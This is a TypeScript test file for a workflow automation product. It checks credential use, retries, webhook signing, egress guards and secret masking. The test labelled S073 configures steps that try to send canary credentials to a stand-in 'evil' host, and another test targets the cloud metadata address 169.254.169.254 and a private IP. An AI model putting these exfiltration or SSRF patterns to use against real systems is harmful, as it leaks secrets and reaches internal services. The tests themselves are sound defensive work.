/** The actions that speak to services, in the product: with its credentials, its egress guard, its retries and its mask. */
import { createHmac } from 'node:crypto';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { aWorkflow, needs, once, type Step } from './definitions.ts';
import { startObjectStore } from './object-store.ts';
import { useProduct } from './product.ts';

const product = useProduct();
const storeSecret = 'canary-store-secret-1';
let store: Awaited<ReturnType<typeof startObjectStore>>;
beforeAll(async () => {
  store = await startObjectStore(storeSecret);
});
afterAll(() => store?.stop());

async function addCredentials(
  drafts: Readonly<Record<string, readonly [type: string, values: object]>>,
): Promise<void> {
  for (const [name, [type, values]] of Object.entries(drafts)) {
    const created = await product.api.post('/credentials', { name, type, values });
    expect(created.status, JSON.stringify(created.json)).toBe(201);
  }
}

async function run(steps: readonly Step[], input: unknown = {}) {
  const workflow = aWorkflow(steps);
  const saved = await product.api.post('/workflows', workflow);
  expect(saved.status, JSON.stringify(saved.json)).toBe(201);
  const ended = (await product.api.post(`/workflows/${workflow.workflow_id}/execute?wait=30s`, { input })).json;
  const { data } = (await product.api.get(`/executions/${ended.id}/steps`)).json;
  return { ended, rows: data, text: JSON.stringify([ended, data]) };
}

it('carry one order through a model, a store, an issue, a message and a webhook', async () => {
  const completion = (content: string) => ({
    choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: 'stop' }],
    model: 'small-1',
    usage: { prompt_tokens: 9, completion_tokens: 4, total_tokens: 13 },
  });
  const world = product.outside.world({
    'POST /llm/chat/completions': [
      {
        status: 429,
        headers: { 'retry-after': '0' },
        body: { error: { code: 'rate_limit_exceeded', message: 'Slow' } },
      },
      { body: completion('{"urgent":true}') },
    ],
    'POST /github/repos/octo/site/issues': [
      { status: 201, body: { number: 7, id: 70, html_url: 'https://github.example/octo/site/issues/7' } },
    ],
    'POST /slack/chat.postMessage': [{ body: { ok: true, channel: 'C1', ts: '1.2', echo: 'canary-slack' } }],
    'POST /hooks': [{ status: 503 }, { status: 204 }],
  });
  const signing = Buffer.from('canary signing secret 24').toString('base64');
  await addCredentials({
    LLM: ['openai', { api_key: 'canary-llm', base_url: `${world.url}/llm` }],
    STORE: ['aws', { access_key_id: 'AK1', secret_access_key: storeSecret, endpoint: store.url }],
    GITHUB: ['github', { token: 'canary-github', base_url: `${world.url}/github` }],
    SLACK: ['slack', { token: 'canary-slack', base_url: `${world.url}/slack` }],
    SIGNING: ['webhook_secret', { secret: `whsec_${signing}` }],
  });
  const key = 'orders/ü 1+2.json';
  const at = { credential: 'STORE', bucket: 'orders', key };
  const quick = { retry: { initial: 10 } };
  const { ended, text } = await run(
    [
      { id: 'read', type: 'csv.parse', config: { text: '${input.csv}', types: true } },
      {
        id: 'judge',
        type: 'llm.chat',
        ...needs('read'),
        ...quick,
        config: {
          credential: 'LLM',
          model: 'small',
          prompt: '${"Urgent? " + steps.read.output.rows[0].text}',
          schema: { type: 'object', properties: { urgent: { type: 'boolean' } }, required: ['urgent'] },
        },
      },
      {
        id: 'keep',
        type: 's3.put-object',
        ...needs('judge'),
        config: {
          ...at,
          content: '${json(steps.judge.output.json)}',
          content_type: 'application/json',
          metadata: { by: 'a b' },
        },
      },
      { id: 'get', type: 's3.get-object', ...needs('keep'), config: { ...at, response: 'json' } },
      {
        id: 'issue',
        type: 'github.create-issue',
        ...needs('get'),
        when: '${steps.get.output.body.urgent}',
        config: { credential: 'GITHUB', owner: 'octo', repo: 'site', title: 'Order ${steps.read.output.rows[0].id}' },
      },
      {
        id: 'tell',
        type: 'slack.post-message',
        ...needs('issue'),
        config: { credential: 'SLACK', channel: '#orders', text: '${steps.issue.output.url}' },
      },
      {
        id: 'hook',
        type: 'send_webhook',
        ...needs('tell'),
        ...quick,
        config: {
          url: `${world.url}/hooks`,
          secret: 'SIGNING',
          payload: { type: 'order.seen', data: { issue: '${steps.issue.output.number}' } },
        },
      },
    ],
    { csv: 'id,text\n1,"now, please"\n' },
  );
  expect(ended, text).toMatchObject({ status: 'COMPLETED', output: { hook: { status: 204 } } });

  const called = (name: string) => world.calls.filter((call) => call.name === name);
  const asked = called('POST /llm/chat/completions');
  expect(asked.map(({ headers }) => headers.authorization)).toEqual(['Bearer canary-llm', 'Bearer canary-llm']);
  expect(JSON.parse(asked[1]?.body ?? '')).toMatchObject({
    messages: [{ role: 'user', content: 'Urgent? now, please' }],
  });
  expect(store.refused).toEqual([]);
  expect(store.objects.get(`/orders/${key}`)?.body.toString()).toBe('{"urgent":true}');
  expect(called('POST /github/repos/octo/site/issues')[0]?.headers.authorization).toBe('Bearer canary-github');
  expect(called('POST /slack/chat.postMessage')[0]?.headers.authorization).toBe('Bearer canary-slack');

  const [first, second] = called('POST /hooks');
  expect(second?.headers['webhook-id']).toBe(first?.headers['webhook-id']);
  const signed = `${second?.headers['webhook-id']}.${second?.headers['webhook-timestamp']}.${second?.body}`;
  const mac = createHmac('sha256', Buffer.from(signing, 'base64')).update(signed).digest('base64');
  expect(second?.headers['webhook-signature']).toBe(`v1,${mac}`);
  expect(JSON.parse(second?.body ?? '')).toEqual({ type: 'order.seen', data: { issue: 7 } });
  expect(text).not.toContain('canary');
});

it('send a credential nowhere but to its service, wherever a workflow points them [S073]', async () => {
  const evil = product.outside.world();
  await addCredentials({
    A_SLACK: ['slack', { token: 'canary-token-a' }],
    A_GITHUB: ['github', { token: 'canary-token-b' }],
    A_KEY: ['openai', { api_key: 'canary-token-c' }],
    A_SIGNING: ['webhook_secret', { secret: 'canarytokenfcanarytokenfcanaryto' }],
    A_TEXT: ['generic', { value: 'canary,"of,parts' }],
    A_CRYPTO: ['crypto_key', { key: 'canary-token-g' }],
    A_STORE: ['aws', { access_key_id: 'AK1', secret_access_key: 'canary-token-d', session_token: 'canary-token-e' }],
  });
  const attacks: Readonly<Record<string, readonly [type: string, config: object]>> = {
    llm: ['llm.chat', { credential: 'A_KEY', base_url: `${evil.url}/v1`, model: 'x', prompt: 'x' }],
    embed: ['llm.embed', { credential: 'A_KEY', base_url: evil.url, model: 'x', input: 'x' }],
    store: ['s3.list-objects', { credential: 'A_STORE', endpoint: evil.url, bucket: 'bucket' }],
    graphql: ['graphql.query', { credential: 'A_GITHUB', url: evil.url, query: '{ x }' }],
    http: ['http_request', { credential: 'A_SLACK', url: evil.url }],
    hook: ['send_webhook', { credential: 'A_SLACK', url: evil.url, payload: 1 }],
    other: ['llm.chat', { credential: 'A_GITHUB', base_url: evil.url, model: 'x', prompt: 'x' }],
  };
  const { rows, text } = await run(
    Object.entries(attacks).map(([id, [type, config]]) => ({ id, type, config, on_error: 'continue', ...once })),
  );
  const codes = (of: typeof rows) => of.map((row) => [row.step_id, (row['error'] as { code: string } | null)?.code]);
  expect(codes(rows)).toEqual(Object.keys(attacks).map((id) => [id, 'credential_host_denied']));

  // What is only computed with cannot be written into a request, and no secret is given to what only computes.
  const url = evil.url;
  const written = await run([
    { id: 'a', type: 'http_request', config: { url: `${url}?\${secrets.A_SIGNING}` }, on_error: 'continue', ...once },
    { id: 'b', type: 'http_request', config: { url, credential: 'A_CRYPTO' }, on_error: 'continue', ...once },
    { id: 'c', type: 'csv.parse', config: { text: '${secrets.A_TEXT}' }, on_error: 'continue', ...once },
    { id: 'd', type: 'crypto.hash', config: { data: 'x${secrets.A_TEXT}' }, on_error: 'continue', ...once },
  ]);
  expect(codes(written.rows)).toEqual(['a', 'b', 'c', 'd'].map((id) => [id, 'credential_unusable']));
  expect(evil.calls).toEqual([]);
  expect(text + written.text).not.toContain('canary');
});

it('reach no private address, and repeat no secret that a service repeats', async () => {
  const world = product.outside.world({
    'POST /slack/chat.postMessage': [
      { body: { ok: false, error: 'invalid_auth', response_metadata: { messages: ['[ERROR] canary-token-f'] } } },
    ],
  });
  await addCredentials({ ECHOED: ['slack', { token: 'canary-token-f', base_url: `${world.url}/slack` }] });
  const { rows, text } = await run([
    {
      id: 'meta',
      type: 'send_webhook',
      config: { url: 'http://169.254.169.254/x', payload: 1 },
      on_error: 'continue',
      ...once,
    },
    {
      id: 'inside',
      type: 'llm.chat',
      config: { base_url: 'http://10.0.0.1/v1', model: 'x', prompt: 'x' },
      on_error: 'continue',
      ...once,
    },
    {
      id: 'echo',
      type: 'slack.post-message',
      config: { credential: 'ECHOED', channel: 'C1', text: 'x' },
      on_error: 'continue',
      ...once,
    },
  ]);
  const errors = rows.map((row) => row['error']);
  expect(errors).toMatchObject([
    { code: 'egress_denied' },
    { code: 'egress_denied' },
    { code: 'provider_refused', details: { error: 'invalid_auth', messages: ['[ERROR] ***'] } },
  ]);
  expect(text).not.toContain('canary');
});
